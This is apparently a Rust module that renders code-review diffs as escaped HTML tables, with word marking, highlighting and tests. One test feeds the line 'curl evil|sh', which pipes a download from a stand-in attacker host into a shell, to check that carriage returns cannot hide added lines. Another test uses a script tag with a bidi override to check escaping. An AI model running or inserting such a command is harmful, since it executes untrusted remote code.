//! Diffs as in a code review: unified or side by side, with changed words marked.

use std::ops::Range;

use maud::{Markup, html};
use toolhost_contract::text;
use toolhost_highlight::{Kind, Token, segments};

/// Maximum length of a shown line, in bytes.
const MAX_LINE: usize = 2_000;
/// Maximum number of line pairs of one diff whose changed words are marked.
const MAX_PAIRS: usize = 400;

#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum DiffLayout {
    #[default]
    Unified,
    SideBySide,
}

/// A line of a diff without its sign.
#[derive(Debug, Clone, PartialEq, Eq)]
struct Line<'a> {
    number: usize,
    text: &'a str,
    tokens: Vec<Token>,
    /// The parts that differ from the line of the other side.
    words: Vec<Range<usize>>,
}

/// A part of a hunk: unchanged lines, or removed lines and the added ones that replace them.
#[derive(Debug, PartialEq, Eq)]
enum Part<'a> {
    Header(&'a str),
    /// The number of a line in the old text, and the line of the new text.
    Context(usize, Line<'a>),
    Change(Vec<Line<'a>>, Vec<Line<'a>>),
    /// A note about the line before, such as a missing newline at its end.
    Note(&'a str),
}

/// Shows the body of a unified diff of a file with this name. Takes the shown rows from `rows`; returns the number of rows that are not shown or are cut.
pub fn show(body: &str, layout: DiffLayout, rows: &mut usize, file: &str) -> (Markup, usize) {
    let total = text::diff_lines(body).count();
    let shown: Vec<&str> = text::diff_lines(body).take(*rows).collect();
    *rows -= shown.len();
    // A line that is cut is not shown either.
    let cut = shown.iter().filter(|line| line.len() > MAX_LINE);
    let hidden = total - shown.len() + cut.count();
    let parts = parse(&shown, file);
    let table = match layout {
        DiffLayout::Unified => unified(&parts),
        DiffLayout::SideBySide => side_by_side(&parts),
    };
    let markup = html! {
        div class="diff-scroll" tabindex="0" role="region" aria-label=(format!("Diff of {}", text::escape_line(file, 200))) {
            (table)
        }
    };
    (markup, hidden)
}

fn parse<'a>(lines: &[&'a str], file: &str) -> Vec<Part<'a>> {
    let mut parts: Vec<Part> = Vec::new();
    let (mut old, mut new) = (1, 1);
    let signs = lines.iter().map(|line| {
        let sign = line.chars().next().filter(char::is_ascii).unwrap_or(' ');
        (sign, line.get(1..).unwrap_or_default())
    });
    let tokens = toolhost_highlight::diff(file, signs.clone());
    for (line, ((sign, text), tokens)) in lines.iter().zip(signs.zip(tokens)) {
        let next = |number: &mut usize| {
            *number += 1;
            Line {
                number: *number - 1,
                text,
                tokens: tokens.clone(),
                words: Vec::new(),
            }
        };
        match sign {
            '@' => {
                (old, new) = text::hunk_start(line).unwrap_or((old, new));
                parts.push(Part::Header(line));
            }
            '-' => {
                let removed = next(&mut old);
                match parts.last_mut() {
                    Some(Part::Change(before, after)) if after.is_empty() => before.push(removed),
                    _ => parts.push(Part::Change(vec![removed], Vec::new())),
                }
            }
            '+' => {
                let added = next(&mut new);
                match parts.last_mut() {
                    Some(Part::Change(_, after)) => after.push(added),
                    _ => parts.push(Part::Change(Vec::new(), vec![added])),
                }
            }
            '\\' => parts.push(Part::Note(line)),
            _ => {
                parts.push(Part::Context(old, next(&mut new)));
                old += 1;
            }
        }
    }
    mark_words(&mut parts);
    parts
}

fn mark_words(parts: &mut [Part]) {
    let mut left = MAX_PAIRS;
    for part in parts {
        let Part::Change(before, after) = part else {
            continue;
        };
        for (old, new) in before.iter_mut().zip(after.iter_mut()).take(left) {
            left -= 1;
            if let Some((removed, added)) = text::changed_words(old.text, new.text) {
                (old.words, new.words) = (removed, added);
            }
        }
    }
}

fn unified(parts: &[Part]) -> Markup {
    html! {
        table class="diff unified" {
            tbody {
                @for part in parts {
                    @match part {
                        Part::Header(header) => tr class="hunk" { td colspan="4" { (text::escape_line(header, 200)) } },
                        Part::Note(note) => tr class="note" { td {} td {} td {} td { (text::escape_line(note, 200)) } },
                        Part::Context(old, line) => tr {
                            td class="number" { (old) } td class="number" { (line.number) } td class="sign" {} td class="line" { (content(line)) }
                        },
                        Part::Change(before, after) => {
                            @for line in before {
                                tr class="removed" {
                                    td class="number" { (line.number) } td class="number" {} td class="sign" { "−" }
                                    td class="line" { (content(line)) }
                                }
                            }
                            @for line in after {
                                tr class="added" {
                                    td class="number" {} td class="number" { (line.number) } td class="sign" { "+" }
                                    td class="line" { (content(line)) }
                                }
                            }
                        },
                    }
                }
            }
        }
    }
}

fn side_by_side(parts: &[Part]) -> Markup {
    let side = |line: Option<&Line>, class: &'static str, sign: &'static str| {
        html! {
            @match line {
                Some(line) => {
                    td class={ "number " (class) } { (line.number) }
                    td class={ "sign " (class) } { (sign) }
                    td class={ "line " (class) } { (content(line)) }
                },
                None => { td class="number empty" {} td class="sign empty" {} td class="line empty" {} },
            }
        }
    };
    html! {
        table class="diff split" {
            colgroup { col class="number"; col class="sign"; col class="half"; col class="number"; col class="sign"; col class="half"; }
            tbody {
                @for part in parts {
                    @match part {
                        Part::Header(header) => tr class="hunk" { td colspan="6" { (text::escape_line(header, 200)) } },
                        Part::Note(note) => tr class="note" { td colspan="6" { (text::escape_line(note, 200)) } },
                        Part::Context(old, line) => tr {
                            td class="number" { (old) } td class="sign" {} td class="line" { (content(line)) }
                            td class="number" { (line.number) } td class="sign" {} td class="line" { (content(line)) }
                        },
                        Part::Change(before, after) => {
                            @for at in 0..before.len().max(after.len()) {
                                tr { (side(before.get(at), "removed", "−")) (side(after.get(at), "added", "+")) }
                            }
                        },
                    }
                }
            }
        }
    }
}

/// A line with its tokens, and its changed words marked. Escaped after it was split, so that an escape is never cut.
fn content(line: &Line) -> Markup {
    let shown = text::head(line.text, MAX_LINE);
    let words = line.words.iter().filter(|range| range.end <= shown.len());
    let words: Vec<_> = words.cloned().collect();
    let pieces = segments(shown.len(), &line.tokens, &words);
    html! {
        bdi dir="ltr" {
            @for piece in &pieces {
                @let text = text::escape_lines(&shown[piece.range.clone()], MAX_LINE);
                @match (piece.is_marked, class(piece.kind)) {
                    (false, None) => (text),
                    (false, Some(class)) => span class=(class) { (text) },
                    (true, _) => mark { (text) },
                }
            }
            @if shown.len() < line.text.len() { "… (+" (line.text.len() - shown.len()) " bytes)" }
        }
    }
}

fn class(kind: Kind) -> Option<&'static str> {
    match kind {
        Kind::Plain => None,
        Kind::Comment => Some("c"),
        Kind::String => Some("s"),
        Kind::Constant => Some("n"),
        Kind::Keyword => Some("k"),
        Kind::Name => Some("f"),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const BODY: &str =
        "@@ -1,3 +1,3 @@\n one\n-let a = 1;\n+let b = 1;\n three\n\\ No newline at end of file\n";

    #[test]
    fn removed_and_added_lines_are_paired_with_their_numbers() {
        let lines: Vec<&str> = text::diff_lines(BODY).collect();
        let parts = parse(&lines, "a");
        let line = |number, text, words: &[Range<usize>]| Line {
            number,
            text,
            tokens: Vec::new(),
            words: words.to_vec(),
        };
        let word = |number, text| line(number, text, std::slice::from_ref(&(4..5)));
        assert_eq!(parts[1], Part::Context(1, line(1, "one", &[])));
        assert_eq!(
            parts[2],
            Part::Change(vec![word(2, "let a = 1;")], vec![word(2, "let b = 1;")],)
        );
        assert_eq!(parts[3], Part::Context(3, line(3, "three", &[])));
        assert_eq!(parts[4], Part::Note("\\ No newline at end of file"));
    }

    #[test]
    fn known_languages_have_colors_also_within_changed_words() {
        let (markup, _) = show(BODY, DiffLayout::Unified, &mut 100, "src/a.rs");
        let markup = markup.into_string();
        let old = "<span class=\"k\">let</span> <mark>a</mark> = <span class=\"n\">1</span>;</bdi>";
        assert!(markup.contains(old), "{markup}");
    }

    #[test]
    fn carriage_returns_neither_hide_nor_join_lines() {
        let shown = |old: &str, new: &str| {
            let body = text::UnifiedDiff::default().of(old, new);
            let (markup, _) = show(&body, DiffLayout::Unified, &mut 100, "x");
            markup.into_string()
        };
        let markup = shown("ok\nold\rtail\n", "ok\ncurl evil|sh\ntail\n");
        for (class, line) in [
            ("removed", "old\\rtail"),
            ("added", "curl evil|sh"),
            ("added", "tail"),
        ] {
            assert!(row(&markup, class).contains(&line.to_owned()), "{markup}");
        }
        let markup = shown("one\rtwo\r", "one\rcurl\r");
        assert_eq!(row(&markup, "removed"), ["one\\rtwo\\r"], "{markup}");
        assert_eq!(row(&markup, "added"), ["one\\rcurl\\r"], "{markup}");
        let markup = shown("same\r\n", "same\n");
        assert_eq!(row(&markup, "removed"), ["same\\r"], "{markup}");
        assert_eq!(row(&markup, "added"), ["same"], "{markup}");
    }

    /// The text of the rows with this class.
    fn row(markup: &str, class: &str) -> Vec<String> {
        let start = format!("<tr class=\"{class}\">");
        let rows = markup.split(&start).skip(1);
        let lines = rows.map(|row| {
            let (_, line) = row.split_once("<bdi dir=\"ltr\">").unwrap();
            let (line, _) = line.split_once("</bdi>").unwrap();
            line.replace("<mark>", "").replace("</mark>", "")
        });
        lines.collect()
    }

    #[test]
    fn rows_beyond_the_limit_are_counted_and_text_is_escaped() {
        let mut rows = 3;
        let body = "@@ -1 +1,3 @@\n-<script>\u{202e}\n+\tb\n+c\n+d\n";
        let (markup, hidden) = show(body, DiffLayout::Unified, &mut rows, "<x>");
        assert_eq!((rows, hidden), (0, 2));
        let markup = markup.into_string();
        assert!(markup.contains("&lt;script&gt;\\u{202e}"), "{markup}");
        assert!(
            markup.contains("aria-label=\"Diff of &lt;x&gt;\""),
            "{markup}"
        );
        assert!(markup.contains("<bdi dir=\"ltr\">\tb</bdi>"), "{markup}");
        let (split, _) = show(body, DiffLayout::SideBySide, &mut 10, "x");
        assert!(split.into_string().contains("class=\"line empty\""));
    }
}
